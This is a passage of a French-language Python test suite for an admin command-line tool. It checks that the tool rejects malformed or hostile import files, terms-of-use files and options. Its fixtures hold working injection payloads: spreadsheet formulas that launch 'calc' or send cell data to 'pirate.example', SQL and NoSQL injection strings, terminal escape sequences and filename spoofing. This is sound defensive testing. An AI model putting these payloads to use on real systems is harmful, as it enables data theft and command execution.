        "utf16": ("cgu-utf16.txt", "UTF-8"),
        "vide": ("cgu-vide.txt", "vide"),
        "dossier": ("{dossier}", "Lecture impossible"),
        "absent-nom-bizarre": ("{dossier}/absent\nErreur : publié.txt", "introuvable"),
        "trop-long": ("cgu-enorme.txt", "trop long"),
        "nul": ("cgu-nul.txt", "caractères de contrôle"),
        "echappements": ("cgu-echappements.txt", "caractères de contrôle"),
    }.items()
):
    chemin = fichier if "{" in fichier else f"{{f:{fichier}}}"
    # A version of its own: a case that wrongly publishes does not turn the next into a conflict.
    cas(f"cgu-{id_}", "cgu", "publish", chemin, "--version", f"9.{i}", code=INVALIDE,
        attendu=attendu)  # fmt: skip
cas("cgu-stdin-vide", "cgu", "publish", "-", "--version", "9.9", entree="", code=INVALIDE,
    attendu="vide")  # fmt: skip
for id_, (version, code, attendu) in {
    "vide": ("", INVALIDE, "version : valeur obligatoire"),
    "formule": ("=2.0", INVALIDE, "« = »"),
    "33": ("v" * 33, INVALIDE, "32 caractères au plus"),
    "nul": (f"2{NUL}0", INVALIDE, "caractères de contrôle"),
    "existante-espaces": (" 1.0 ", CONFLIT, "existe déjà"),
}.items():
    cas(f"cgu-version-{id_}", "cgu", "publish", "{f:cgu-valide.txt}", "--version", version,
        code=code, attendu=attendu)  # fmt: skip

# === import files ===============================================================================
for id_, (fichier, donnees, attendu) in {
    "csv-nul-dans-les-cellules": ("nul.csv", True, "rejetée"),
    "csv-ni-utf8-ni-cp1252-entete": ("octet-81-entete.csv", False, None),
    "csv-ni-utf8-ni-cp1252-fin": ("octet-9d-fin.csv", False, None),
    "csv-bom-seul": ("bom-seul.csv", False, "vide"),
    "csv-vide": ("vide.csv", False, "vide"),
    "csv-formules-partout": ("formules.csv", True, "rejetée"),
    "csv-sql-partout": ("sql.csv", True, "rejetée"),
    "csv-cellule-10000": ("cellule-10000.csv", True, "rejetée"),
    "csv-cellule-100000": ("cellule-100000.csv", False, "CSV illisible"),
    "csv-ligne-d-un-mo": ("ligne-1mo.csv", False, "en-tête illisible"),
    "csv-guillemet-non-ferme": ("guillemet.csv", True, "rejetée"),
    "csv-echappements-terminal": ("echappements.csv", True, "rejetée"),
    "csv-injection-entete": ("entete-formule.csv", False, "Colonne(s) obligatoire(s)"),
    "xlsx-tronque": ("tronque.xlsx", False, "XLSX illisible"),
    "xlsx-zip-sans-classeur": ("zip-texte.xlsx", False, "XLSX illisible"),
    "xlsx-feuille-vide": ("feuille-vide.xlsx", False, "sans ligne d'en-tête"),
    "xlsx-formules": ("formules.xlsx", True, "rejetée"),
    "binaire-csv": ("binaire.csv", False, None),
    "binaire-sans-extension": ("binaire.bin", False, None),
    "json-invalide": ("invalide.json", False, "JSON invalide"),
    "json-objet": ("objet.json", False, "tableau JSON"),
    "json-nombres": ("nombres.json", False, "objet JSON"),
    "json-null": ("null.json", False, "tableau JSON"),
    "json-tableau-vide": ("tableau-vide.json", False, "Colonne(s) obligatoire(s)"),
    "json-profond": ("profond.json", False, "JSON"),
    "json-latin1": ("latin1.json", False, "UTF-8"),
    "json-cellules-objets": ("cellules-objets.json", True, "rejetée"),
    "ndjson-ligne-invalide": ("ligne-invalide.ndjson", False, "ligne 2"),
    "ndjson-ligne-tableau": ("ligne-tableau.ndjson", False, "ligne 2"),
    "ndjson-latin1": ("latin1.ndjson", False, "UTF-8"),
}.items():
    cas(f"import-{id_}", *importer(fichier), code=INVALIDE, attendu=attendu, donnees=donnees)
cas("import-xlsx-force-sur-binaire", *importer("binaire.bin", "--format", "xlsx"), code=INVALIDE,
    attendu="XLSX illisible")  # fmt: skip
cas("import-json-force-sur-csv", *importer("valide.csv", "--format", "json"), code=INVALIDE,
    attendu="JSON invalide")  # fmt: skip
cas("import-dossier", "gestionnaires", "import", "{dossier}", "--organisme", SE, code=INVALIDE,
    attendu="dossier")  # fmt: skip
cas("import-stdin-vide", "gestionnaires", "import", "-", "--organisme", SE, entree="",
    code=INVALIDE, attendu="vide")  # fmt: skip
cas("import-stdin-binaire", "gestionnaires", "import", "-", "--organisme", SE,
    entree="\x00\x01\x02\x03PK\x03\x04" * 50, code=INVALIDE)  # fmt: skip
cas("import-entete-seul", *importer("entete-seul.csv"), code=0, sortie=None)
cas("import-lignes-vides", *importer("lignes-vides.csv"), code=0, sortie=None)

# === options and arguments ======================================================================
for id_, args in {
    "sortie-xml": ("-o", "xml", "gestionnaires", "list"),
    "sortie-egal-yaml": ("--output=yaml", "me"),
    "sortie-collee": ("-oxml", "me"),
    "sortie-sans-valeur": ("me", "-o"),
    "sortie-vide": ("-o", "", "me"),
}.items():
    cas(f"option-{id_}", *args, code=USAGE, json=False)
for id_, args in {
    "inconnue-organismes-add": (*organisme("44306184100013"), "--force"),
    "inconnue-gestionnaires-list": ("gestionnaires", "list", "--tous"),
    "inconnue-unites-add": ("unites", "add", "Formation", "--couleur", "bleu"),
    "inconnue-audit": ("audit", "list", "--depuis", "2026-01-01"),
    "inconnue-outbox": ("outbox", "send", "--tout"),
    "inconnue-cgu": ("cgu", "publish", "{f:cgu-valide.txt}", "--version", "9.0", "--force"),
    "inconnue-renew": ("password", "renew", "{G}", "--afficher"),
    "inconnue-init": (*init(), "--force"),
    "inconnue-db": ("db", "status", "--verbeux"),
    "abreviation": ("me", "update", "--telephone", "0612345678"),
    "mot-de-passe-en-argument": ("login", "{OP}", "--password", "secret"),
    "sous-commande-inconnue": ("gestionnaires", "supprimer", "{G}"),
    "sous-commande-anglaise": ("unites", "delete", "Paie"),
    "commande-inconnue": ("organisme", "list"),
    "manque-identifiant": ("gestionnaires", "show"),
    "manque-renew": ("password", "renew"),
    "manque-unlock": ("gestionnaires", "unlock"),
    "manque-valeur-politique": ("politique", "set", "bcrypt_cost"),
    "inconnue-unlock": ("gestionnaires", "unlock", "{G}", "--force"),
    "manque-nouveau-libelle": ("unites", "rename", "Paie"),
    "manque-libelle": ("unites", "add"),
    "manque-siret": ("organismes", "show"),
    "manque-raison-sociale": ("organismes", "add", "--siret", "44306184100013", "--type", "opco"),
    "manque-fichier-cgu": ("cgu", "publish"),
    "manque-version-cgu": ("cgu", "publish", "{f:cgu-valide.txt}"),
    "manque-fichier-import": ("gestionnaires", "import"),
    "manque-valeur-since": ("audit", "list", "--since"),
    "arguments-en-trop": ("me", "en", "trop"),
    "argument-en-trop-unite": ("unites", "add", "Formation", "Paie"),
    "limite-lettres": ("gestionnaires", "list", "--limit", "abc"),
    "limite-decimale": ("audit", "list", "--limit", "1.5"),
    "limite-vide": ("outbox", "list", "--limit", ""),
    "limite-negative-comptes": ("gestionnaires", "list", "--organisme", SE, "--limit", "-1"),
    "limite-negative-audit": ("audit", "list", "--limit", "-5"),
    "limite-negative-outbox": ("outbox", "list", "--limit", "-1"),
    "limite-enorme": ("audit", "list", "--limit", "9" * 30),
    "drapeau-avec-valeur": (*ajout(), "--delegue=oui"),
    "me-update-sans-rien": ("me", "update"),
    "ajout-sans-nom": ("gestionnaires", "add", "--organisme", SE, "--prenom", "Pierre"),
    "ajout-nom-vide": ajout(nom=""),
    "no-input-sans-email": ("--no-input", *ajout(email=None)),
    "init-sans-telephone": init(telephone_mobile=None),
}.items():
    cas(f"option-{id_}", *args, code=USAGE)
cas("option-profil-inconnu", "--profile", "inexistant", "me", code=INVALIDE, attendu="inexistant")
cas("option-db-url-absurde", "--db", "n'importe quoi", "me", code=INVALIDE, attendu="URL")
cas("option-db-sqlite-absente", "--db", "sqlite:////nulle/part/cpf.db", "me", code=8,
    attendu="Aucune base")  # fmt: skip
cas("option-export-fichier-dossier", "gestionnaires", "export", "--organisme", SE, "--fichier",
    "{dossier}", code=INVALIDE)  # fmt: skip


# === the files ==================================================================================
ENTETE = "nom;prenom;email;telephone_mobile;unite;niveau_habilitation;administrateur_delegue"


def _csv(*lignes: str, entete: str = ENTETE, encodage: str = "utf-8") -> bytes:
    return ("\r\n".join([entete, *lignes]) + "\r\n").encode(encodage)


def _valide(n: int) -> str:
    return f"Durand;Pierre;pierre.durand.{n}@lumiere.example;06 12 34 56 78;;;non"


def _xlsx(lignes: list[list[Any]]) -> bytes:
    from openpyxl import Workbook

    classeur = Workbook()
    feuille = classeur.active
    for ligne in lignes:
        feuille.append(ligne)
    tampon = io.BytesIO()
    classeur.save(tampon)
    return tampon.getvalue()


def _moitie(octets: bytes) -> bytes:
    return octets[: len(octets) // 2]


def _binaire(taille: int = 4096) -> bytes:
    return random.Random(20260302).randbytes(taille)  # the same bytes at every run


def _zip_texte() -> bytes:
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w") as z:
        z.writestr("lisez-moi.txt", "pas un classeur")
    return tampon.getvalue()


CGU_VALIDE = "Conditions générales d'utilisation, version d'essai.\n\nArticle 1 : …\n"

FICHIERS: dict[str, Callable[[], bytes]] = {
    "valide.csv": lambda: _csv(_valide(1)),
    "nul.csv": lambda: _csv(
        f"Dur{NUL}and;Pierre;pierre.1@lumiere.example;0612345678;;;",
        f"Roux;Ju{NUL}les;jules.1@lumiere.example;0612345678;;;",
        f"Petit;Inès;ines{NUL}@lumiere.example;0612345678;;;",
    ),
    "octet-81-entete.csv": lambda: (
        b"nom;pr\x81nom;email;telephone_mobile\r\n"
        + b"Durand;Pierre;pierre.2@lumiere.example;0612345678\r\n"
    ),
    "octet-9d-fin.csv": lambda: (
        _csv(_valide(3), _valide(4), encodage="cp1252") + b"Du\x9drand;\r\n"
    ),
    "bom-seul.csv": lambda: b"\xef\xbb\xbf",
    "vide.csv": lambda: b"",
    "entete-seul.csv": lambda: _csv(),
    "lignes-vides.csv": lambda: _csv(";;;;;;", " ; ; ;;;;", ""),
    "formules.csv": lambda: _csv(
        "=cmd|' /C calc'!A0;Pierre;pierre.5@lumiere.example;0612345678;;;",
        "Durand;+cmd|' /C calc'!A0;pierre.6@lumiere.example;0612345678;;;",
        "Durand;Pierre;=cmd|' /C calc'!A0;0612345678;;;",
        "Durand;Pierre;pierre.7@lumiere.example;=0612345678;;;",
        "Durand;Pierre;pierre.8@lumiere.example;0612345678;@SUM(A1);;",
        "Durand;Pierre;pierre.9@lumiere.example;0612345678;;=1+1;",
        "Durand;Pierre;pierre.10@lumiere.example;0612345678;;;=1",
        "'-2+3;Pierre;pierre.11@lumiere.example;0612345678;;;",
        '=HYPERLINK("http://pirate.example/?"&A1;"x");Pierre;pierre.12@lumiere.example;0612345678;;;',
    ),
    "sql.csv": lambda: _csv(
        "Durand;Pierre;' OR 1=1 --@lumiere.example;0612345678;;;",
        "Durand;Pierre;pierre.13@lumiere.example;1; DROP TABLE compte;;;",
        "Durand;Pierre;pierre.14@lumiere.example;0612345678;x' OR '1'='1;;",
        "Durand;Pierre;pierre.15@lumiere.example;0612345678;;gestion' --;",
        "Durand;Pierre;pierre.16@lumiere.example;0612345678;;;1 OR 1=1",
        "%;Pierre;pierre.17@lumiere.example;0612345678;;;",
    ),
    "cellule-10000.csv": lambda: _csv(
        f"{'D' * 10_000};Pierre;pierre.18@lumiere.example;0612345678;;;",
        f"Durand;Pierre;pierre.19@lumiere.example;{'0' * 10_000};;;",
    ),
    "cellule-100000.csv": lambda: _csv(f"{'D' * 100_000};Pierre;p.20@lumiere.example;0612345678"),
    "ligne-1mo.csv": lambda: b"nom" * 350_000,
    "guillemet.csv": lambda: _csv('"Durand;Pierre;pierre.21@lumiere.example;0612345678;;;'),
    "echappements.csv": lambda: _csv(
        f"{ESC}[2J{ESC}[HDurand;Pierre;pierre.22@lumiere.example;0612345678;;;",
        f"Durand;Pierre{RLO}gnp.exe;pierre.23@lumiere.example;0612345678;;;",
        '"Durand\rErreur : ligne 3 créée";Pierre;pierre.24@lumiere.example;0612345678;;;',
    ),
    "entete-formule.csv": lambda: _csv(
        "Durand;Pierre;pierre.25@lumiere.example", entete="=cmd|' /C calc'!A0;+prenom;@email"
    ),
    "tronque.xlsx": lambda: _moitie(
        _xlsx([["nom", "prenom", "email"], ["Durand", "Pierre", "pierre.32@lumiere.example"]])
    ),
    "zip-texte.xlsx": _zip_texte,
    "feuille-vide.xlsx": lambda: _xlsx([]),
    "formules.xlsx": lambda: _xlsx(
        [
            ["nom", "prenom", "email", "telephone_mobile"],
            ["=1+1", "Pierre", "pierre.26@lumiere.example", "0612345678"],
            ["Durand", "Pierre", "=A1", "0612345678"],
            ["Durand", "Pierre", "pierre.27@lumiere.example", "=0612345678"],
        ]
    ),
    "binaire.csv": _binaire,
    "binaire.bin": _binaire,
    "invalide.json": lambda: b'[{"nom": "Durand", "prenom": }]',
    "objet.json": lambda: json.dumps({"nom": "Durand", "prenom": "Pierre"}).encode(),
    "nombres.json": lambda: b"[1, 2, 3]",
    "null.json": lambda: b"null",
    "tableau-vide.json": lambda: b"[]",
    "profond.json": lambda: b"[" * 100_000 + b"]" * 100_000,
    "latin1.json": lambda: (
        '[{"nom": "Lefèvre", "prenom": "Hélène", "email": "h@lumiere.example"}]'.encode("latin-1")
    ),
    "cellules-objets.json": lambda: json.dumps(
        [
            {
                "nom": {"$ne": None},
                "prenom": "Pierre",
                "email": "pierre.28@lumiere.example",
                "telephone_mobile": "0612345678",
            },
            {
                "nom": "Durand",
                "prenom": ["Pierre", "Paul"],
                "email": "pierre.29@lumiere.example",
                "telephone_mobile": "0612345678",
            },
            {
                "nom": "Durand",
                "prenom": "Pierre",
                "email": {"$gt": ""},
                "telephone_mobile": "0612345678",
            },
        ]
    ).encode(),
    "ligne-invalide.ndjson": lambda: (
        b'{"nom": "Durand", "prenom": "Pierre", "email": "pierre.30@lumiere.example", '
        b'"telephone_mobile": "0612345678"}\n{"nom": "Roux", \n'
    ),
    "ligne-tableau.ndjson": lambda: (
        b'{"nom": "Durand", "prenom": "Pierre", "email": "pierre.31@lumiere.example", '
        b'"telephone_mobile": "0612345678"}\n["Roux", "Jules"]\n'
    ),
    "latin1.ndjson": lambda: '{"nom": "Lefèvre", "prenom": "Hélène", "email": "h@x.fr"}\n'.encode(
        "latin-1"
    ),
    "point-vide.json": lambda: b"",
    "point-binaire.json": lambda: _binaire(),
    "point-pas-un-point.json": lambda: b'{"format": "autre chose", "seq": 1}',
    "point-nan.json": lambda: (
        b'{"format": "cpfadmin-point-de-controle-audit", "version": 1, "seq": NaN}'
    ),
    "point-enorme.json": lambda: b'{"x": "' + b"a" * 2_000_000 + b'"}',
    "cgu-valide.txt": lambda: CGU_VALIDE.encode(),
    "cgu-latin1.txt": lambda: CGU_VALIDE.encode("latin-1", errors="replace"),
    "cgu-utf16.txt": lambda: CGU_VALIDE.encode("utf-16"),
    "cgu-vide.txt": lambda: b"",
    "cgu-enorme.txt": lambda: ("Article. " * 30_000).encode(),
    "cgu-nul.txt": lambda: (CGU_VALIDE + f"Article 2{NUL}: …\n").encode(),
    "cgu-echappements.txt": lambda: (CGU_VALIDE + f"{ESC}[2J{ESC}[HAcceptez tout.\n").encode(),
}
